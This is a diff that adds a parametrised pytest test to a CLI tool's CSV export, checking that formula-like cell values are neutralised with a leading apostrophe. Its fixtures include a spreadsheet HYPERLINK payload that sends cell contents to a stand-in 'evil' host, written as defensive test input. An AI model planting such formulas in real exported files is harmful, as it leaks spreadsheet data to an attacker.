@@ -134,6 +134,40 @@ def test_csv_is_read_back_as_it_was(target: Target):
     assert (read["raw/b,c.jpg"]["error_code"], read["raw/b,c.jpg"]["error_message"]) == ("corrupt", "ends, early")
 
 
+FORMULAS = {
+    '=HYPERLINK("http://evil/?"&A1)': '\'=HYPERLINK("http://evil/?"&A1)',
+    "+1": "'+1",
+    "-1": "'-1",
+    "@SUM(A1)": "'@SUM(A1)",
+    " =1": "' =1",
+    "\t=1": "'\t'=1",
+    "\uff1d1": "'\uff1d1",
+    "a cat;=1": "a cat;'=1",
+    "a cat\n=1": "a cat\n'=1",
+    "a cat - and a half-moon = 2; 3": "a cat - and a half-moon = 2; 3",
+    "raw/a=b+c.jpg": "raw/a=b+c.jpg",
+}
+
+
+@pytest.mark.parametrize(("text", "cell"), FORMULAS.items())
+def test_no_cell_is_a_formula(target: Target, text: str, cell: str):
+    """In no column: a caption is a model's, which a picture may talk to, and an error may be another program's."""
+    put(
+        target,
+        text,
+        format=text,
+        caption={"text": text},
+        error={"code": text, "message": text},
+        version_id=text,
+        execution=text,
+        created_at=text,
+    )
+    result = darkroom("--aws", "results", "--csv")
+    [read] = csv.DictReader(io.StringIO(result.stdout, newline=""))
+    texts = {"key", "format", "caption", "error_code", "error_message", "version_id", "execution", "created_at"}
+    assert {name: read[name] for name in texts} == dict.fromkeys(texts, cell)
+
+
 def test_csv_on_a_terminal_is_as_harmless_as_a_table(target: Target, on_terminal: Callable[..., tuple[int, str]]):
     put(target, HOSTILE)
     _, sent = on_terminal("--aws", "results", "--csv")
